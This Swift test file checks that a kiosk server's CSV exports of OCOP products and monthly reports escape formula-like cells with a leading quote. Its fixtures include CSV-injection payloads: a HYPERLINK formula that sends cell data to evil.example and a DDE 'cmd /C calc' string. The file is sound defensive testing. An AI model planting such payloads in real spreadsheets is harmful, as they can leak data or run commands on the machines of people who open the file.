import Foundation
import HummingbirdBcrypt
import HummingbirdTesting
import KioskCore
import KioskOCOP
import KioskServer
import KioskStore
import TestSupport
import Testing

/// Every CSV the server writes goes through ``CSVWriter``: a product, comment or officer named like a
/// spreadsheet formula is written with a leading `'`, and the OCOP export still imports back unchanged.
@Suite struct CSVExportTests {
    static let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")"

    /// No cell of `bytes` (a CSV file with a byte-order mark) starts like a formula.
    static func cells(_ bytes: [UInt8]) throws -> [String] {
        #expect(bytes.starts(with: [0xEF, 0xBB, 0xBF]))
        let cells = try CSVParser.parse(String(decoding: bytes.dropFirst(3), as: UTF8.self)).flatMap(\.fields)
        for cell in cells {
            #expect(!(cell.first.map(CSVWriter.formulaStarts.contains) ?? false), "\(cell.debugDescription) would run as a formula")
        }
        return cells
    }

    @Test func theOCOPExportGuardsFormulasAndImportsBackUnchanged() async throws {
        let setup = try OCOPStaffTests.setup()
        var product = OCOPStaffTests.product(id: "san-pham-doc", gtin: OCOPStaffTests.gtin, issued: "2025-01-10")
        product.name = LocalizedText(vi: Self.hostile, en: "+cmd|' /C calc'!A0")
        product.producer = OCOPProducer(name: "@SUM(1+1)*cmd", address: "-2+3, Hồng Bàng", phone: "+84 225 3886 123")
        product.description = LocalizedText(vi: "\tTab đầu dòng", en: "\rCR first")
        try setup.database.addOCOPProduct(product, by: nil, now: TestServer.now)
        try setup.database.addOCOPBatch(
            OCOPBatch(product: product.id, id: "L1", produced: LocalDate(year: 2026, month: 11, day: 1), notes: "=1+1"), by: nil, now: TestServer.now)
        let stored = try setup.database.ocopProducts()
        try await TestServer.withLiveServer(setup.configuration) { client in
            let session = try await client.signIn("canbo", "mat-khau-can-bo")
            let export = try await client.execute(uri: "/staff/ocop/export.csv", method: .get, headers: [.cookie: session])
            #expect(export.status == .ok)
            let bytes = Array(buffer: export.body)
            let cells = try Self.cells(bytes)
            #expect(cells.contains("'" + Self.hostile))
            #expect(cells.contains("'=1+1"))
            #expect(cells.contains("'@SUM(1+1)*cmd"))

            let copy = try AppDatabase.open(
                directory: FileManager.default.temporaryDirectory.appendingPathComponent("ocop-copy-\(UUID().uuidString)"))
            _ = try OCOPRegistryFile.importCSV(bytes, file: "export.csv", into: copy, by: nil, now: TestServer.now)
            #expect(try copy.ocopProducts() == stored)
            #expect(try copy.ocopBatches().first?.notes == "=1+1")
        }
    }

    @Test func theReportCSVGuardsAnOfficerNamedLikeAFormula() async throws {
        let folder = Decoder.temporaryFolder("content")
        try FileManager.default.removeItem(at: folder)
        try FileManager.default.copyItem(at: TestServer.content, to: folder)
        let centre = folder.appendingPathComponent("centre.toml")
        let escaped = Self.hostile.replacingOccurrences(of: "\"", with: "\\\"")
        try (try String(contentsOf: centre, encoding: .utf8)).replacingOccurrences(of: "name = \"Nguyễn Thị Lan\"", with: "name = \"\(escaped)\"")
            .write(to: centre, atomically: true, encoding: .utf8)
        var configuration = TestServer.configuration()
        configuration.contentDirectory = folder
        let database = try AppDatabase.open(directory: configuration.dataDirectory)
        try database.addUser(name: "truong", role: .head, passwordHash: Bcrypt.hash("mat-khau-rat-dai", cost: 4))
        try await TestServer.withLiveServer(configuration) { client in
            let rating =
                #"{"id": "\#(UUID().uuidString)", "survey": "quick", "answers": {"overall": "satisfied"}, "officer": "cb-01", "createdAt": "2026-11-24T09:00:00+07:00"}"#
            #expect(try await client.postRating(rating).status == .created)
            let session = try await client.signIn("truong", "mat-khau-rat-dai")
            let report = try await client.execute(uri: "/dashboard/report?period=2026-11&format=csv", method: .get, headers: [.cookie: session])
            #expect(report.status == .ok)
            let cells = try Self.cells(Array(buffer: report.body))
            #expect(cells.contains("'" + Self.hostile), "\(cells)")
        }
    }
}
